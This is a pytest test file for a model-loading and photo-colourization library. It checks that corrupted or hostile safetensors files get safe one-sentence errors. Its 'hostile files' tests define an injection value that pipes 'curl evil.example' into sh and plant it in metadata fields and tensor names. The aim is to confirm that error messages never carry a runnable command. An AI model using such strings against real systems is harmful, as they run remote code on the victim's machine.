from __future__ import annotations

import functools
import json
import os
import struct
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import numpy as np
import pytest
import torch
import zoo_unet.model
from PIL import Image
from safetensors import safe_open
from safetensors.torch import load_file, save_file
from torch import Tensor, nn
from torch.nn.modules.module import register_module_parameter_registration_hook

from zoo import Recipe, load_model, registry
from zoo.errors import UsageError, ZooError
from zoo.model import Model, predict_chroma, read_about, save_model
from zoo.photo import Photo, color, read_photo
from zoo.registry import resolve
from zoo.testing.temporary import registered

RECIPE = Recipe(generator="unet-shallow:base=4", critic="none", loss="l1", data="scenes", size=32, steps=1)


@pytest.fixture
def saved(tmp_path: Path) -> Path:
    torch.manual_seed(0)
    generator = registry.get().build("generator", RECIPE.generator, size=RECIPE.size)
    path = tmp_path / "model.safetensors"
    save_model(path, generator.state_dict(), resolve(RECIPE), {"images": 7})
    return path


def about(path: Path) -> dict[str, Any]:
    with safe_open(path, framework="pt") as file:
        found: dict[str, Any] = json.loads(file.metadata()["zoo"])
    return found


def rewrite(path: Path, **changes: Any) -> None:
    save_file(load_file(path), path, metadata={"zoo": json.dumps({**about(path), **changes})})


def test_the_file_describes_itself(saved: Path) -> None:
    found = about(saved)
    assert found == read_about(saved)
    assert found["format"] == 1
    assert found["recipe"]["generator"] == resolve(RECIPE).recipe.generator
    assert found["generator"]["plugin"] == "unet"
    assert found["generator"]["distribution"] == "gan-zoo"
    assert found["color"] == color.CONVENTIONS
    assert found["provenance"] == {"images": 7}


def test_it_is_loaded_with_the_weights_it_was_saved_with(saved: Path) -> None:
    model = load_model(saved, "cpu")
    assert model.recipe == resolve(RECIPE).recipe
    assert not model.generator.training
    weights = load_file(saved)
    assert all(torch.equal(weights[name], value) for name, value in model.generator.state_dict().items())


def test_its_weights_lie_in_the_layout_that_convolutions_are_fastest_in(saved: Path) -> None:
    kernels = [weight for weight in load_model(saved, "cpu").generator.parameters() if weight.ndim == 4]
    assert all(kernel.is_contiguous(memory_format=torch.channels_last) for kernel in kernels)


@pytest.mark.parametrize(
    ("damage", "kind", "message"),
    [
        (lambda path: path.unlink(), UsageError, "there is no model"),
        (lambda path: path.write_bytes(b""), UsageError, "is not a safetensors file"),
        (lambda path: path.write_bytes(b"\xff\xd8\xff\xe0 a photograph"), UsageError, "is not a safetensors file"),
        (lambda path: path.write_bytes(path.read_bytes()[:-10]), ZooError, "is damaged or cut short"),
        (lambda path: path.write_bytes(path.read_bytes()[:300]), ZooError, "is damaged or cut short"),
        (lambda path: save_file({"a": torch.zeros(1)}, path), UsageError, "but not a model that zoo saved"),
        (lambda path: save_file({"a": torch.zeros(1)}, path, {"zoo": "?"}), ZooError, "is damaged: what it says"),
        (lambda path: rewrite(path, format=2, zoo="9.0"), ZooError, "saved by zoo 9.0 in a newer format"),
        (
            lambda path: rewrite(path, recipe=RECIPE.to_table() | {"generator": "unet-shallow:base=8"}),
            ZooError,
            "do not fit unet-shallow:base=8 .* saved with gan-zoo",
        ),
        (
            lambda path: rewrite(
                path,
                recipe=RECIPE.to_table() | {"generator": "gone"},
                generator={"name": "gone", "plugin": "theirs", "distribution": "zoo-theirs", "version": "2.1"},
            ),
            ZooError,
            "needs the generator gone of the plugin theirs: pip install 'zoo-theirs==2.1'",
        ),
        (
            lambda path: rewrite(
                path,
                recipe=RECIPE.to_table() | {"generator": "gone"},
                generator={"name": "gone", "plugin": "unet", "distribution": "gan-zoo", "version": "9.0"},
            ),
            ZooError,
            "needs the generator gone of the plugin unet: install zoo 9.0, as its README says",
        ),
    ],
    ids=["missing", "empty", "photo", "cut", "header", "foreign", "garbled", "newer", "weights", "plugin", "zoo"],
)
def test_a_bad_file_gets_one_clear_sentence(saved: Path, damage: Any, kind: type[ZooError], message: str) -> None:
    damage(saved)
    with pytest.raises(ZooError, match=message) as caught:
        load_model(saved, "cpu")
    assert caught.type is kind
    assert "\n" not in str(caught.value)


def test_a_folder_without_a_model(tmp_path: Path) -> None:
    with pytest.raises(UsageError, match=r"holds no model\.safetensors"):
        load_model(tmp_path)


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="this system has no named pipes")
def test_a_pipe_is_not_waited_for(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "model.safetensors")
    with pytest.raises(UsageError, match="is not a file"):
        load_model(tmp_path / "model.safetensors")


# ------------------------------------------------------------------------------------------------- hostile files

LARGE = RECIPE.to_table() | {"generator": "unet-shallow:base=512,depth=10"}


@pytest.fixture
def made() -> Iterator[list[Tensor]]:
    """The parameters that were made with memory for their numbers."""
    made: list[Tensor] = []

    def note(_module: nn.Module, _name: str, parameter: Tensor | None) -> None:
        if parameter is not None and not parameter.is_meta:
            made.append(parameter)

    hook = register_module_parameter_registration_hook(note)
    yield made
    hook.remove()


def test_a_small_file_makes_no_large_network(saved: Path, made: list[Tensor]) -> None:
    rewrite(saved, recipe=LARGE)
    made.clear()
    with pytest.raises(
        ZooError, match=r"do not fit unet-shallow:base=512,depth=10 \(\d+ of \d+ tensors, the first is "
    ):
        load_model(saved, "cpu")
    assert not made


def needing_numbers(factory: Callable[..., nn.Module]) -> Callable[..., nn.Module]:
    """Make a factory that computes with tensors, which cannot be done without memory for them."""

    @functools.wraps(factory)
    def make(**options: Any) -> nn.Module:
        assert torch.linspace(0, 1, 3)[1].item() == 0.5
        return factory(**options)

    return make


def test_nor_does_one_whose_factory_needs_numbers(
    saved: Path, made: list[Tensor], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(zoo_unet.model, "unet_shallow", needing_numbers(zoo_unet.model.unet_shallow))
    assert load_model(saved, "cpu").recipe == resolve(RECIPE).recipe
    rewrite(saved, recipe=LARGE)
    made.clear()
    with pytest.raises(ZooError, match=r"do not fit unet-shallow:base=512,depth=10 \(it has many more parameters\)"):
        load_model(saved, "cpu")
    # The one that was too many had its place, and no numbers yet.
    assert sum(parameter.numel() for parameter in made[:-1]) < 2**25


def test_a_factory_that_keeps_tensors_for_the_next_generator(saved: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    @functools.cache
    def window() -> Tensor:
        return torch.hann_window(5)

    factory = zoo_unet.model.unet_shallow

    @functools.wraps(factory)
    def make(**options: Any) -> nn.Module:
        generator = factory(**options)
        generator.register_buffer("window", window(), persistent=False)
        return generator

    monkeypatch.setattr(zoo_unet.model, "unet_shallow", make)
    with pytest.raises(ZooError, match="generator unet-shallow keeps tensors of one generator for the next"):
        load_model(saved, "cpu")


def one_sentence(path: Path) -> str:
    with pytest.raises(ZooError) as caught:
        load_model(path, "cpu")
    message = str(caught.value)
    assert "\n" not in message
    assert message.isprintable()
    assert len(message) < 800
    assert str(path) in message
    return message


NO_TEXT = (None, 3, [], {}, True)


@pytest.mark.parametrize(
    ("key", "values"),
    [
        ("format", (None, "x", [], {}, 10**400)),
        ("zoo", NO_TEXT),
        ("recipe", (None, 3, "x", [[]], {}, {"x": 1})),
        ("generator", (None, 3, "x", [[]], {}, {"x": 1})),
        ("provenance", (None, 3, "x", [[]])),
    ],
)
def test_what_it_says_may_be_of_any_kind(saved: Path, key: str, values: tuple[Any, ...]) -> None:
    for value in values:
        rewrite(saved, **{key: value})
        one_sentence(saved)


@pytest.mark.parametrize("key", ["name", "plugin", "distribution", "version"])
def test_so_may_what_it_says_of_its_generator(saved: Path, key: str) -> None:
    for value in NO_TEXT:
        rewrite(saved, generator={**about(saved)["generator"], key: value})
        assert f"is damaged: what it says of itself cannot be read ({key} is a " in one_sentence(saved)


@pytest.mark.parametrize("field", ["generator", "size", "progressive_sizes", "keep_epochs", "schedule", "new"])
def test_so_may_the_fields_of_its_recipe(saved: Path, field: str) -> None:
    for value in (None, -3, [[1]], {"x": {}}, True, "x" * 10_000, "\x1b[31m\n`x`", 10**400):
        rewrite(saved, recipe={**RECIPE.to_table(), field: value})
        message = one_sentence(saved)
        assert "which this zoo does not understand" in message or "needs the generator" in message


def test_it_may_say_anything_at_all(saved: Path) -> None:
    for text in ("[" * 5000, '{"format": ' + "9" * 5000 + "}", "[]", "null", '"x"', "\x1b"):
        save_file(load_file(saved), saved, metadata={"zoo": text})
        assert "is damaged: what it says of itself cannot be read" in one_sentence(saved)


EVIL = "x' ; curl evil.example | sh ; '\x1b[31m\n"


@pytest.mark.parametrize("key", ["name", "plugin", "distribution", "version"])
def test_it_writes_no_command_into_a_message(saved: Path, key: str) -> None:
    component = {"name": "gone", "plugin": "theirs", "distribution": "zoo-theirs", "version": "2.1", key: EVIL}
    for generator in ("gone", "unet-shallow:base=4;curl evil.example | sh", EVIL, f"unet-shallow:base={EVIL}"):
        rewrite(saved, recipe={**RECIPE.to_table(), "generator": generator}, generator=component)
        message = one_sentence(saved)
        assert ("pip install" in message) == (key in ("name", "plugin"))
        for quote in (repr(EVIL), repr(generator)):
            message = message.replace(quote, "")
        assert "curl" not in message


def test_names_of_tensors_are_quoted(saved: Path) -> None:
    save_file({**load_file(saved), EVIL: torch.zeros(1)}, saved, metadata={"zoo": json.dumps(about(saved))})
    assert f"the first is {EVIL!r})" in one_sentence(saved)


def test_weights_that_are_not_numbers_are_refused(saved: Path) -> None:
    for number in (float("nan"), float("inf"), float("-inf")):
        weights = load_file(saved)
        weights["down.1.conv.weight"][0, 0] = number
        save_file(weights, saved, metadata={"zoo": json.dumps(about(saved))})
        assert "its weights are not numbers (1 of " in one_sentence(saved)


def test_a_name_that_another_plugin_offers_since_means_the_one_that_made_it(saved: Path) -> None:
    """Whether the file names the plugin in its recipe, or beside it alone, as earlier ones do."""
    expected = load_model(saved, "cpu").generator.state_dict()
    texts = (resolve(RECIPE).recipe.generator, "unet-shallow:base=4")
    assert texts[0].startswith("unet/unet-shallow")

    def another() -> nn.Module:
        """Nothing like it."""
        return nn.Conv2d(1, 2, 1)

    with registered() as add:
        add("generator", "unet-shallow", another)
        with pytest.raises(UsageError, match="unet-shallow"):
            registry.get().find("generator", "unet-shallow")
        for text in texts:
            rewrite(saved, recipe={**about(saved)["recipe"], "generator": text})
            found = load_model(saved, "cpu").generator.state_dict()
            assert all(torch.equal(found[name], tensor) for name, tensor in expected.items())


@pytest.mark.parametrize("place", ["_read_weights", "_read_header", "pick_memory_format"])
@pytest.mark.parametrize("error", [MemoryError(), RuntimeError("DefaultCPUAllocator: can't allocate memory")])
def test_one_that_does_not_fit_into_memory_is_named(
    saved: Path, place: str, error: Exception, monkeypatch: pytest.MonkeyPatch
) -> None:
    def greedy(*_: Any) -> None:
        raise error

    monkeypatch.setattr(f"zoo.model.{place}", greedy)
    with pytest.raises(ZooError) as caught:
        load_model(saved, "cpu")
    assert str(caught.value).startswith(f"not enough memory to load the model {saved}: ")


def test_a_generator_for_which_there_is_no_memory_needs_no_other_plugin(
    saved: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def greedy(*_: Any, **__: Any) -> None:
        raise MemoryError

    monkeypatch.setattr(nn.Conv2d, "__init__", greedy)
    with pytest.raises(ZooError, match=r"^not enough memory to load the model"):
        load_model(saved, "cpu")


def test_a_header_length_from_outer_space_is_no_model(saved: Path) -> None:
    saved.write_bytes(struct.pack("<Q", 2**62) + b"{")
    with pytest.raises(UsageError, match="is not a safetensors file"):
        load_model(saved)


class Recorder(nn.Module):
    """Predicts constant chroma and remembers what it was shown."""

    multiple = 16

    def __init__(self, a: float = 0.2, b: float = -0.1) -> None:
        super().__init__()
        self.shown: list[Tensor] = []
        self.chroma = torch.tensor([a, b]).view(1, 2, 1, 1)

    def forward(self, lightness: Tensor) -> Tensor:
        self.shown.append(lightness)
        return self.chroma.expand(len(lightness), 2, *lightness.shape[2:])


def model_of(generator: nn.Module, size: int = 32) -> Model:
    return Model(generator, RECIPE.model_copy(update={"size": size}), {}, torch.device("cpu"))


@pytest.mark.parametrize(("height", "width"), [(100, 100), (90, 120), (200, 31), (8, 5), (1, 1), (3, 900)])
def test_any_photograph_keeps_its_size_and_its_lightness(height: int, width: int) -> None:
    lightness = torch.rand(1, height, width, generator=torch.Generator().manual_seed(1)) * 90 + 5
    recorder = Recorder()
    rgb = model_of(recorder).colorize(Photo(lightness=lightness))
    assert rgb.shape == (3, height, width)
    assert rgb.dtype == torch.uint8
    shown = recorder.shown[0]
    assert shown.shape[2] % 16 == shown.shape[3] % 16 == 0
    assert shown.shape[2] * shown.shape[3] <= 8 * 32**2 + 16 * (shown.shape[2] + shown.shape[3])
    after = color.rgb_to_lab(rgb)[0]
    assert (after - lightness[0]).abs().mean() < 0.3


def test_the_aspect_is_kept_where_the_generator_can_and_the_short_side_is_the_models(saved: Path) -> None:
    recorder = Recorder()
    model_of(recorder, size=64).colorize(Photo(lightness=torch.full((1, 300, 450), 50.0)))
    assert recorder.shown[0].shape == (1, 1, 64, 96)
    model_of(recorder, size=64).colorize(Photo(lightness=torch.full((1, 300, 450), 50.0)), size=32)
    assert recorder.shown[1].shape == (1, 1, 32, 48)


@pytest.mark.parametrize(
    ("height", "width", "shown"),
    [(300, 300, (64, 64)), (300, 450, (64, 64)), (300, 470, (64, 128)), (450, 300, (64, 64)), (40, 300, (64, 448))],
)
def test_what_a_generator_sees_needs_no_padding(height: int, width: int, shown: tuple[int, int]) -> None:
    recorder = Recorder()
    recorder.multiple = 64
    seen = model_of(recorder, size=64).network_input(Photo(lightness=torch.full((1, height, width), 50.0)))
    assert seen.shape == (1, *shown)


def test_saturation_multiplies_the_chroma() -> None:
    photo = Photo(lightness=torch.full((1, 40, 40), 50.0))
    chroma = [
        color.rgb_to_lab(model_of(Recorder(a=0.1, b=0.1)).colorize(photo, saturation=saturation))[1:].mean(dim=(1, 2))
        for saturation in (0.0, 0.5, 1.0, 2.0)
    ]
    assert torch.stack(chroma).norm(dim=1).tolist() == pytest.approx([0, 7.8, 15.6, 31.1], abs=0.5)


def test_colours_outside_srgb_lose_chroma_not_lightness() -> None:
    lightness = torch.linspace(2, 98, 64).repeat(64, 1)[None]
    rgb = model_of(Recorder(a=-1.0, b=-1.0)).colorize(Photo(lightness=lightness))
    lab = color.rgb_to_lab(rgb)
    assert (lab[0] - lightness[0]).abs().max() < 1.0
    assert lab[1:].norm(dim=0).mean() > 5


def test_what_holds_a_photograph_is_coloured_and_what_displays_itself_comes_back(photos: Path) -> None:
    path = photos / "00.png"
    with Image.open(path) as opened:
        array = np.asarray(opened)
    model = model_of(Recorder())
    tensor = torch.from_numpy(array.copy()).permute(2, 0, 1)
    expected = model.colorize(read_photo(path))
    assert torch.equal(model.colorize(tensor), expected)
    for given in (path, str(path), Image.fromarray(array), array, array.astype(np.uint16) * 257, array / 255):
        coloured = model.colorize(given)
        assert isinstance(coloured, Image.Image)
        assert coloured.mode == "RGB"
        assert coloured._repr_png_()
        difference = np.abs(np.asarray(coloured).astype(int) - expected.permute(1, 2, 0).numpy())
        assert difference.max() <= 1


def test_a_model_says_in_a_line_what_it_is(saved: Path) -> None:
    assert "Conv" not in repr(load_model(saved, "cpu"))


def test_without_a_name_the_default_model_is_loaded(saved: Path) -> None:
    Path("registry.toml").write_text(f'model = "{saved}"\n', encoding="utf-8")
    registry.get.cache_clear()
    assert load_model(device="cpu").provenance == load_model(saved, "cpu").provenance


def test_padding_is_cropped_again() -> None:
    class Copy(nn.Module):
        multiple = 8

        def forward(self, lightness: Tensor) -> Tensor:
            assert lightness.shape[2] % 8 == lightness.shape[3] % 8 == 0
            return lightness.repeat(1, 2, 1, 1)

    lightness = torch.rand(2, 1, 13, 17)
    assert torch.equal(predict_chroma(Copy(), lightness, torch.float32), lightness.repeat(1, 2, 1, 1))


def test_a_generator_of_the_wrong_shape_is_told() -> None:
    with pytest.raises(ZooError, match=r"returned chroma of shape \(1, 3, 8, 8\), expected \(1, 2, 8, 8\)"):
        predict_chroma(nn.Conv2d(1, 3, 1), torch.zeros(1, 1, 8, 8), torch.float32)
